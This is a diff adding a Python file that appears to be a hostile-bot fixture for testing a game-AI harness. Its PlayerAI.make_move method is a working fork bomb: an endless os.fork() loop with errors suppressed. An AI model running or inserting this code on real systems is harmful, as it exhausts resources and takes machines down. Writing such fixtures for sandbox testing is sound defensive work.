@@ -1,0 +1,12 @@
+"""Forks in all of its processes without end."""
+#: first = ["late", "crashed", "gone"]
+#: then = ["late", "crashed", "gone"]
+import os
+
+class PlayerAI:
+    def make_move(self, board):
+        while True:
+            try:
+                os.fork()
+            except OSError:
+                pass
